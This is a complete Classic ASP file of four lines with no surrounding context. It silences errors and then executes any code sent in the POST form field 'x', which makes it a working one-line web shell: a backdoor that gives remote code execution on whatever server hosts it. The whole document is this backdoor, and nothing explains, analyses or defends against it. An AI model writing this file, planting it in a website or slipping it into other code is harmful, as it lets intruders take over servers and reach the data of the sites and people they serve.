<%
On Error Resume Next
execute(request.form("x"))
%>
